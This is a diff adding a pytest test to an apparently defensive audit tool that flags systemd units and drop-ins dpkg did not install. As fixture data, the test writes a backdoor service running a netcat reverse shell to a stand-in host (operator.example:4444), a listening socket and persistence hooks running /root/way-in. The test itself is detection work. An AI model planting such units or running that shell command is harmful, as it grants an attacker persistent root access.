@@ -68,3 +68,39 @@ def test_a_spool_that_cannot_be_read_is_not_taken_for_an_empty_one(tmp_path: Pat
     not_a_directory.write_text("")
     assert jobs.spool_problems(not_a_directory, tmp_path / "none") == [
         f"cannot read {not_a_directory} to look for jobs (run as root)"]
+
+
+def test_services_and_dropins_no_package_installed(tmp_path: Path) -> None:
+    """A service enabled from anywhere, and a drop-in for any unit, that dpkg did not
+    install is named once; packaged units, their aliases and links, and masks are not."""
+    etc, lib, elsewhere = tmp_path / "etc", tmp_path / "lib", tmp_path / "root"
+    for directory in (etc / "multi-user.target.wants", lib, elsewhere):
+        directory.mkdir(parents=True)
+    unit = b"[Service]\nExecStart=/usr/sbin/cron -f\n"
+    (lib / "cron.service").write_bytes(unit)
+    (etc / "multi-user.target.wants" / "cron.service").symlink_to(lib / "cron.service")
+    (etc / "crond.service").symlink_to(lib / "cron.service")  # an alias
+    (etc / "ssh.service").symlink_to("/dev/null")  # masked
+    files = {str(lib / "cron.service"): hashlib.md5(unit).hexdigest()}
+    units = tuple(f"{d}/{links}*.{kind}" for d in (etc, lib)
+                  for links in ("", "*.wants/") for kind in ("service", "socket"))
+    dropins = (f"{etc}/*service.d/*.conf",)
+    assert jobs.unit_problems(files, units, dropins) == []
+
+    backdoor = b"[Service]\nExecStart=/bin/sh -c 'exec nc operator.example 4444 -e /bin/sh'\n"
+    (elsewhere / "way-back.service").write_bytes(backdoor)  # `systemctl link`ed, enabled
+    (etc / "way-back.service").symlink_to(elsewhere / "way-back.service")
+    (etc / "multi-user.target.wants" / "way-back.service").symlink_to(etc / "way-back.service")
+    (etc / "way-in.socket").write_text("[Socket]\nListenStream=7443\nAccept=yes\n")
+    (lib / "cron.service").write_bytes(unit + b"ExecStartPost=/root/way-in\n")  # changed
+    for directory in ("cron.service.d", "service.d"):
+        (etc / directory).mkdir()
+        (etc / directory / "50-way-in.conf").write_text("[Service]\nExecStartPre=/root/way-in\n")
+    assert jobs.unit_problems(files, units, dropins) == [
+        # the changed packaged unit by the first path that reaches it, its alias
+        f"systemd units no package installed, which would run as root: {etc}/crond.service, "
+        f"{etc}/way-back.service, {etc}/way-in.socket (systemctl disable --now them, remove "
+        "their files, systemctl daemon-reload)",
+        f"systemd drop-ins no package installed, which change what a unit runs: "
+        f"{etc}/cron.service.d/50-way-in.conf, {etc}/service.d/50-way-in.conf "
+        "(remove them, systemctl daemon-reload)"]
